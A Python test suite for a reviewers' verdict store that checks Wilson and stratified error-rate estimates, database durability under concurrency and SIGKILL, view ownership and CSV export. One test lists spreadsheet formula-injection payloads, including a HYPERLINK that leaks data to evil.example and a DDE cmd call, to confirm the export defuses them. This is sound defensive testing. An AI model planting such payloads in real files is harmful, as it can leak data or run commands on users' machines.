"""Reviewers' verdicts (skyscript_viz.reviews): nothing committed is ever lost, and the audit estimates.

Every store test runs twice: on a SQLite file and on a fresh database of a real PostgreSQL server
(the session fixture ``pg``). Durability is tested the hard way: eight threads, four spawned
processes, and a process killed with SIGKILL in the middle of writing. The Wilson interval is checked against the formula written out
here and against published values (Newcombe 1998, Statistics in Medicine 17:857-872, table II).
"""

from __future__ import annotations

import itertools
import math
import multiprocessing as mp
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skyscript_viz import InvalidFilterError
from skyscript_viz.errors import ReviewStoreError
from skyscript_viz.reviews import VERDICTS, ReviewStore, stratified_estimate, wilson_interval

REPO = Path(__file__).resolve().parents[1]
_DB_COUNT = itertools.count()
Z95 = 1.959963984540054


def wilson_by_hand(k: int, n: int, z: float = Z95) -> tuple[float, float]:
    """Wilson (1927) score interval, written from the textbook formula."""
    p = k / n
    centre = (2 * n * p + z**2) / (2 * (n + z**2))
    half = z * math.sqrt(z**2 + 4 * n * p * (1 - p)) / (2 * (n + z**2))
    return centre - half, centre + half


# ---- Wilson interval ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("k", "n"), [(0, 10), (5, 10), (81, 263), (15, 148), (0, 20), (1, 29), (10, 10), (1, 1)])
def test_wilson_matches_the_formula(k: int, n: int) -> None:
    lo, hi = wilson_interval(k, n)
    want_lo, want_hi = wilson_by_hand(k, n)
    assert lo == pytest.approx(max(0.0, want_lo), abs=1e-12) and hi == pytest.approx(min(1.0, want_hi), abs=1e-12)


@pytest.mark.parametrize(
    ("k", "n", "low", "high"),
    [
        (81, 263, 0.2553, 0.3662),  # Newcombe 1998, example (a)
        (15, 148, 0.0624, 0.1605),  # (b)
        (0, 20, 0.0000, 0.1611),  # (c)
        (1, 29, 0.0061, 0.1718),  # (d)
        (0, 10, 0.0000, 0.2775),
        (5, 10, 0.2366, 0.7634),
    ],
)
def test_wilson_matches_published_values(k: int, n: int, low: float, high: float) -> None:
    lo, hi = wilson_interval(k, n)
    assert abs(lo - low) < 1e-4 and abs(hi - high) < 1e-4, (lo, hi)


def test_wilson_edge_cases() -> None:
    assert wilson_interval(0, 0) == (0.0, 1.0)  # nothing judged: anything is possible
    lo, hi = wilson_interval(0, 1000)
    assert lo == 0.0 and 0 < hi < 0.004
    lo, hi = wilson_interval(1000, 1000)
    assert hi == pytest.approx(1.0) and 0.996 < lo < 1
    lo90, hi90 = wilson_interval(5, 10, z=1.6448536269514722)
    lo95, hi95 = wilson_interval(5, 10)
    assert lo95 < lo90 < 0.5 < hi90 < hi95  # a wider interval for more confidence


@settings(max_examples=200, deadline=None)
@given(st.integers(1, 10_000).flatmap(lambda n: st.tuples(st.integers(0, n), st.just(n))))
def test_wilson_contains_the_rate_and_stays_in_0_1(kn: tuple[int, int]) -> None:
    k, n = kn
    lo, hi = wilson_interval(k, n)
    assert 0.0 <= lo <= k / n <= hi <= 1.0


# ---- stratified estimate --------------------------------------------------------------------------------


def test_one_stratum_is_plain_wilson() -> None:
    est = stratified_estimate([(5_000, 263, 81)])
    assert est.rate == pytest.approx(81 / 263)
    assert (est.low, est.high) == pytest.approx(wilson_interval(81, 263))
    assert (est.n, est.errors) == (263, 81)
    assert "Wilson" in est.method


def test_strata_are_weighted_by_population() -> None:
    # 900,000 NAIP images, 5 % bad in a sample of 20; 100,000 Sentinel-2, 50 % bad in a sample of 20
    est = stratified_estimate([(900_000, 20, 1), (100_000, 20, 10)])
    assert est.rate == pytest.approx(0.9 * 0.05 + 0.1 * 0.5)
    assert (est.n, est.errors) == (40, 11)
    # the unweighted rate (11/40) would be far off
    assert abs(est.rate - 11 / 40) > 0.15
    assert est.low < est.rate < est.high
    # swapping the populations swaps the weights
    assert stratified_estimate([(100_000, 20, 1), (900_000, 20, 10)]).rate == pytest.approx(0.1 * 0.05 + 0.9 * 0.5)
    # equal rates in every stratum: the estimate is that rate whatever the weights
    assert stratified_estimate([(7, 10, 2), (1_000, 50, 10), (30, 5, 1)]).rate == pytest.approx(0.2)


def test_strata_without_verdicts_are_left_out() -> None:
    assert stratified_estimate([(1_000, 0, 0), (500, 10, 5)]) == stratified_estimate([(500, 10, 5)])
    none = stratified_estimate([(1_000, 0, 0)])
    assert (none.n, none.rate, none.low, none.high) == (0, 0.0, 0.0, 1.0)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.integers(1, 10**6), st.integers(1, 200)).flatmap(
            lambda t: st.tuples(st.just(t[0]), st.just(t[1]), st.integers(0, t[1]))
        ),
        min_size=1,
        max_size=8,
    )
)
def test_stratified_interval_holds_the_rate(strata: list[tuple[int, int, int]]) -> None:
    est = stratified_estimate(strata)
    pop = sum(N for N, _, _ in strata)
    assert est.rate == pytest.approx(sum(N / pop * e / n for N, n, e in strata))
    assert 0.0 <= est.low <= est.rate + 1e-12 and est.rate - 1e-12 <= est.high <= 1.0
    assert est.n == sum(n for _, n, _ in strata) and est.errors == sum(e for _, _, e in strata)


# ---- the store ------------------------------------------------------------------------------------------


@pytest.fixture(params=["sqlite", "postgresql"])
def db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """Where a store lives: a new SQLite file, or a new database on the test PostgreSQL server."""
    from skyscript_viz.reviewdb import dispose_all

    if request.param == "sqlite":
        yield str(tmp_path / "sub" / "reviews.sqlite")
    else:
        yield str(request.getfixturevalue("pg").create(f"reviews_{next(_DB_COUNT)}"))
    dispose_all()  # no pooled connections pile up on the server from test to test


def test_two_reviewers_on_one_image_both_keep_their_verdict(db: str) -> None:
    store = ReviewStore(db)
    store.add("images2/a1_CH_19.jpg", "good", reviewer="Ada")
    store.add("images2/a1_CH_19.jpg", "bad_caption", reviewer="Grace", note="says school, shows a church")
    cur = store.current()
    assert sorted(zip(cur["reviewer"], cur["verdict"], strict=True)) == [("Ada", "good"), ("Grace", "bad_caption")]
    # a reviewer changing their mind replaces only their own current verdict; the history keeps all
    store.add("images2/a1_CH_19.jpg", "wrong_place", reviewer="Ada")
    cur = store.current()
    assert sorted(zip(cur["reviewer"], cur["verdict"], strict=True)) == [
        ("Ada", "wrong_place"),
        ("Grace", "bad_caption"),
    ]
    hist = store.history("images2/a1_CH_19.jpg")
    assert list(hist["verdict"]) == ["good", "bad_caption", "wrong_place"]
    assert hist["note"][1] == "says school, shows a church"
    assert store.filepaths_with(["good"]) == []
    assert store.filepaths_with(["bad_caption", "bad_image"]) == ["images2/a1_CH_19.jpg"]


def test_verdicts_survive_a_new_store_on_the_same_file(db: str) -> None:
    path = db
    seqs = [ReviewStore(path).add(f"images2/a{i}_CH_19.jpg", "good", reviewer="Ada") for i in range(3)]
    assert seqs == sorted(seqs) and len(set(seqs)) == 3
    assert list(ReviewStore(path).history()["seq"]) == seqs


def test_current_of_one_audit(db: str) -> None:
    store = ReviewStore(db)
    store.add("a.jpg", "good", reviewer="Ada", audit="audit-1")
    store.add("a.jpg", "bad_image", reviewer="Ada")  # outside the audit
    store.add("b.jpg", "other", reviewer="Ada", audit="audit-2")
    assert list(store.current(audit="audit-1")["verdict"]) == ["good"]
    assert list(store.current(audit="audit-2")["filepath"]) == ["b.jpg"]
    assert len(store.current()) == 2


def test_export_csv_has_every_verdict(db: str) -> None:
    import io

    import pandas as pd

    store = ReviewStore(db)
    store.add("a.jpg", "good", reviewer="Ada", note='comma, "quote"\nnewline')
    store.add("a.jpg", "other", reviewer="Ada")
    df = pd.read_csv(io.BytesIO(store.export_csv()))
    assert list(df["verdict"]) == ["good", "other"]
    assert df["note"][0] == 'comma, "quote"\nnewline'


@pytest.mark.parametrize(
    ("verdict", "reviewer"), [("great", "Ada"), ("", "Ada"), ("GOOD", "Ada"), ("good", ""), ("good", "   ")]
)
def test_invalid_verdict_or_empty_reviewer_is_refused(db: str, verdict: str, reviewer: str) -> None:
    store = ReviewStore(db)
    with pytest.raises(InvalidFilterError):
        store.add("a.jpg", verdict, reviewer=reviewer)
    assert store.history().empty


def test_saved_views_round_trip(db: str) -> None:
    store = ReviewStore(db)
    assert store.views() == []
    store.save_view("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis")
    time.sleep(0.01)
    store.save_view("  Helsinki, 2019  ", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2")
    assert store.views() == [
        ("Helsinki, 2019", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2"),
        ("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis"),
    ]
    store.save_view("tennis courts at 10 cm", "src=CH,ES&tag=sport%3Dtennis", replace=True)  # not duplicated
    assert dict(ReviewStore(db).views())["tennis courts at 10 cm"] == "src=CH,ES&tag=sport%3Dtennis"
    assert len(store.views()) == 2
    with pytest.raises(InvalidFilterError):
        store.save_view("   ", "src=CH")


# ---- concurrency and crashes ------------------------------------------------------------------------------


def test_eight_threads_keep_every_verdict(db: str) -> None:
    store = ReviewStore(db)
    per_thread = 25
    errors: list[BaseException] = []
    start = threading.Barrier(8)

    def work(t: int) -> None:
        try:
            start.wait()
            for i in range(per_thread):
                store.add(f"images2/a{i}_CH_19.jpg", list(VERDICTS)[(t + i) % len(VERDICTS)], reviewer=f"r{t}")
        except BaseException as exc:  # noqa: BLE001 - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(t,)) for t in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(60)
    assert errors == []
    hist = store.history()
    assert len(hist) == 8 * per_thread and hist["seq"].is_unique
    assert hist.groupby("reviewer").size().to_dict() == {f"r{t}": per_thread for t in range(8)}
    assert len(store.current()) == 8 * per_thread  # each reviewer judged each image once


def _process_writer(path: str, reviewer: str, n: int) -> int:
    store = ReviewStore(path)
    for i in range(n):
        store.add(f"images3/w{i}_US_20.jpg", "bad_image" if i % 3 else "good", reviewer=reviewer)
    return n


def _open_and_add(path: str) -> str:
    try:
        ReviewStore(path).add("images3/w1_US_20.jpg", "good", reviewer=f"p{os.getpid()}")
    except ReviewStoreError as exc:
        return str(exc)
    return ""


def test_processes_creating_one_new_store_at_once_all_get_it(tmp_path: Path) -> None:
    """Warm processes opening one new SQLite file at the same moment: switching it to WAL needs the
    file alone, and SQLite answers "database is locked" at once instead of waiting (4 of 40 rounds
    failed before the switch was retried)."""
    with mp.get_context("spawn").Pool(4) as pool:
        for k in range(15):
            path = str(tmp_path / f"r{k}" / "reviews.sqlite")
            assert pool.map(_open_and_add, [path] * 4) == [""] * 4
            assert len(ReviewStore(path).history()) == 4


def test_four_processes_keep_every_verdict(db: str) -> None:
    # four spawned processes race to create the store on a new file, then to write 50 verdicts each
    path = db
    with mp.get_context("spawn").Pool(4) as pool:
        done = pool.starmap(_process_writer, [(path, f"p{i}", 50) for i in range(4)])
    assert done == [50] * 4
    hist = ReviewStore(path).history()
    assert len(hist) == 200 and hist["seq"].is_unique
    assert hist.groupby("reviewer").size().to_dict() == {f"p{i}": 50 for i in range(4)}
    assert len(ReviewStore(path).current()) == 200


KILLED_WRITER = """
import sys
from skyscript_viz.reviews import ReviewStore
store = ReviewStore(sys.argv[1])
for i in range(100_000):
    seq = store.add(f"images2/a{i}_CH_19.jpg", "good", reviewer="crashy", note="x" * 200)
    print(seq, flush=True)
"""


def test_sigkill_mid_stream_loses_nothing_committed(db: str) -> None:
    path = db
    ReviewStore(path).add("images2/before.jpg", "good", reviewer="Ada")
    proc = subprocess.Popen(
        [sys.executable, "-c", KILLED_WRITER, str(path)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    assert proc.stdout is not None
    printed: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while len(printed) < 150 and time.monotonic() < deadline:
            line = proc.stdout.readline()
            if not line:
                break
            printed.append(int(line))
        # kill it while it is writing: it keeps adding verdicts until the signal lands
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait(30)
    assert proc.returncode == -signal.SIGKILL
    assert len(printed) >= 150, "the writer did not get going"
    hist = ReviewStore(path).history()
    kept = set(hist["seq"])
    assert set(printed) <= kept, sorted(set(printed) - kept)[:10]
    assert "images2/before.jpg" in set(hist["filepath"])
    # whatever it wrote after the last line we read is whole, not torn
    assert (hist["note"].loc[hist["reviewer"] == "crashy"] == "x" * 200).all()
    # and the store still takes verdicts
    ReviewStore(path).add("images2/after.jpg", "good", reviewer="Ada")


# ---- identities, owners, spreadsheets ---------------------------------------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_verdict_csv_neutralises_formulas_in_reviewer_text(db: str, cell: str) -> None:
    import csv
    import io

    store = ReviewStore(db)
    store.add("a.jpg", "other", reviewer=cell.strip() or "x", note=cell)
    store.add("b.jpg", "good", reviewer="Ada", note="fine - really")
    rows = list(csv.DictReader(io.StringIO(store.export_csv().decode())))
    for row in rows:
        for col in ("reviewer", "note", "filepath"):
            assert not row[col].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
    assert rows[0]["note"] == "'" + cell  # kept readable: only a quote in front
    assert rows[1]["note"] == "fine - really"  # text that is not a formula stays as written
    assert [r["identity"] for r in rows] == ["unverified", "unverified"]
    # the store itself keeps what was written: only the spreadsheet export is defused
    assert store.history()["note"][0] == cell


def test_signed_in_verdicts_are_marked_and_not_replaced_by_a_typed_name(db: str) -> None:
    import csv
    import io

    store = ReviewStore(db)
    store.add("a.jpg", "good", reviewer="ada@example.org", verified=True)
    store.add("a.jpg", "bad_image", reviewer="ada@example.org")  # someone typing Ada's address
    cur = store.current()
    assert sorted(zip(cur["reviewer"], cur["verified"], cur["verdict"], strict=True)) == [
        ("ada@example.org", False, "bad_image"),
        ("ada@example.org", True, "good"),
    ]
    rows = list(csv.DictReader(io.StringIO(store.export_csv().decode())))
    assert [r["identity"] for r in rows] == ["verified", "unverified"]


def test_a_retried_verdict_is_stored_once(db: str) -> None:
    store = ReviewStore(db)
    first = store.add("a.jpg", "good", reviewer="Ada", uid="c0ffee" * 5)
    assert store.add("a.jpg", "good", reviewer="Ada", uid="c0ffee" * 5) == first
    assert len(store.history()) == 1


def test_saved_views_cannot_be_overwritten_by_another_visitor(db: str) -> None:
    from skyscript_viz import NotOwnerError, ViewExistsError

    store = ReviewStore(db)
    store.save_view("my courts", "src=CH", owner="ada@example.org", verified=True)
    for owner, verified in [("bob", False), ("ada@example.org", False), ("", False), ("eve@example.org", True)]:
        for replace in (False, True):
            with pytest.raises(NotOwnerError, match="belongs to ada@example.org"):
                store.save_view("my courts", "src=FI", owner=owner, verified=verified, replace=replace)
    assert store.views() == [("my courts", "src=CH")]
    with pytest.raises(ViewExistsError, match="confirm"):  # even its owner confirms a replacement
        store.save_view("my courts", "src=ES", owner="ada@example.org", verified=True)
    store.save_view("my courts", "src=ES", owner="ada@example.org", verified=True, replace=True)
    assert store.views() == [("my courts", "src=ES")]
    # a view saved without an owner: anyone may replace it, but only knowingly
    store.save_view("shared", "src=US")
    with pytest.raises(ViewExistsError):
        store.save_view("shared", "src=NL", owner="bob")
    store.save_view("shared", "src=NL", owner="bob", replace=True)
    assert dict(store.views())["shared"] == "src=NL" and store.view_owners()["shared"] == ("bob", False)


def test_two_visitors_saving_one_new_name_at_once_do_not_overwrite(db: str) -> None:
    from skyscript_viz import ReviewStoreError

    store = ReviewStore(db)
    outcome: dict[str, str] = {}
    start = threading.Barrier(6)

    def save(who: str) -> None:
        start.wait()
        try:
            store.save_view("race", f"q={who}", owner=who)
            outcome[who] = "saved"
        except ReviewStoreError as exc:
            outcome[who] = type(exc).__name__

    threads = [threading.Thread(target=save, args=(f"v{i}",)) for i in range(6)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(60)
    winners = [w for w, o in outcome.items() if o == "saved"]
    assert len(winners) == 1 and len(outcome) == 6, outcome
    assert set(outcome.values()) == {"saved", "NotOwnerError"}
    assert store.views() == [("race", f"q={winners[0]}")]


def test_a_store_of_an_earlier_release_is_migrated(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "reviews.sqlite"
    con = sqlite3.connect(path)
    con.executescript("""
        CREATE TABLE verdicts (seq INTEGER PRIMARY KEY AUTOINCREMENT, filepath TEXT NOT NULL,
            reviewer TEXT NOT NULL, verdict TEXT NOT NULL, note TEXT NOT NULL DEFAULT '', audit TEXT,
            created REAL NOT NULL);
        CREATE TABLE saved_views (name TEXT PRIMARY KEY, query TEXT NOT NULL, created REAL NOT NULL);
        INSERT INTO verdicts (filepath, reviewer, verdict, note, created) VALUES ('a.jpg', 'Ada', 'good', '', 1.0),
            ('a.jpg', 'Bob', 'other', 'hm', 2.0);
        INSERT INTO saved_views VALUES ('old view', 'src=CH', 3.0);
    """)
    con.commit()
    con.close()
    store = ReviewStore(path)
    hist = store.history()
    assert list(zip(hist["reviewer"], hist["verdict"], hist["verified"], strict=True)) == [
        ("Ada", "good", False),
        ("Bob", "other", False),
    ]
    assert store.views() == [("old view", "src=CH")]
    assert store.add("b.jpg", "good", reviewer="Cy") == 3
    uids = sqlite3.connect(path).execute("SELECT uid FROM verdicts").fetchall()
    assert len({u for (u,) in uids}) == 3 and all(u for (u,) in uids)


def test_a_corrupt_store_is_reported_not_raised(tmp_path: Path) -> None:
    from skyscript_viz import ReviewStoreError
    from skyscript_viz.reviews import open_review_store

    path = tmp_path / "reviews.sqlite"
    path.write_bytes(b"this is not a database" * 100)
    with pytest.raises(ReviewStoreError, match="reviews.sqlite"):
        ReviewStore(path)
    store, notice = open_review_store(path)
    assert notice and "unavailable" in notice and "not a database" in notice
    assert store.history().empty and store.current().empty and store.views() == []
    assert store.filepaths_with(["good"]) == []
    with pytest.raises(ReviewStoreError):
        store.add("a.jpg", "good", reviewer="Ada")
    assert path.read_bytes() == b"this is not a database" * 100  # left as it was, for someone to look at


def test_a_read_only_folder_gives_a_read_only_store(tmp_path: Path) -> None:
    from skyscript_viz import ReviewStoreError
    from skyscript_viz.reviews import open_review_store
    from tests.readonly import read_only_folder

    folder = tmp_path / "idx"
    ReviewStore(folder / "reviews.sqlite").add("a.jpg", "good", reviewer="Ada")
    from skyscript_viz.reviewdb import dispose_all

    dispose_all()
    with read_only_folder(folder):
        store, notice = open_review_store(folder / "reviews.sqlite")
        assert notice and "read-only" in notice
        assert list(store.history()["reviewer"]) == ["Ada"]  # what was judged is still shown
        with pytest.raises(ReviewStoreError, match="read-only"):
            store.add("a.jpg", "bad_image", reviewer="Bob")
        with pytest.raises(ReviewStoreError):
            store.save_view("v", "src=CH")
        store, notice = open_review_store(folder / "new" / "reviews.sqlite")  # no store there yet
        assert notice and "unavailable" in notice and store.history().empty
        dispose_all()


@pytest.mark.parametrize(
    ("cli", "env", "secrets", "want_url", "origin"),
    [
        (None, {}, None, "sqlite:////IDX/reviews.sqlite", "default"),
        ("postgresql://u@h/db", {"SKYSCRIPT_DB": "sqlite:///x"}, None, "postgresql+psycopg://u@h/db", "--db"),
        (
            None,
            {"SKYSCRIPT_DB": "postgres://u:pw@h:5433/db"},
            {"reviews": {"db": "x"}},
            "postgresql+psycopg://u:pw@h:5433/db",
            "SKYSCRIPT_DB",
        ),
        (
            None,
            {},
            {"reviews": {"db": "postgresql://u@h/db"}},
            "postgresql+psycopg://u@h/db",
            "secrets.toml [reviews] db",
        ),
        ("/data/r.sqlite", {}, None, "sqlite:////data/r.sqlite", "--db"),
    ],
)
def test_which_database(
    cli: str | None, env: dict[str, str], secrets: dict[str, dict[str, str]] | None, want_url: str, origin: str
) -> None:
    from skyscript_viz.reviewdb import resolve_db_url

    setting = resolve_db_url(Path("/IDX"), cli=cli, secrets=secrets, environ=env)
    assert (setting.url, setting.origin) == (want_url, origin)
    assert "pw" not in repr(setting)


def test_a_bad_database_url_says_how_to_fix_it() -> None:
    from skyscript_viz import ReviewStoreError
    from skyscript_viz.reviewdb import resolve_db_url

    with pytest.raises(ReviewStoreError, match="SKYSCRIPT_DB") as err:
        resolve_db_url(Path("/IDX"), environ={"SKYSCRIPT_DB": "mysql://u:pa55word@h/db"})
    assert "pa55word" not in str(err.value)
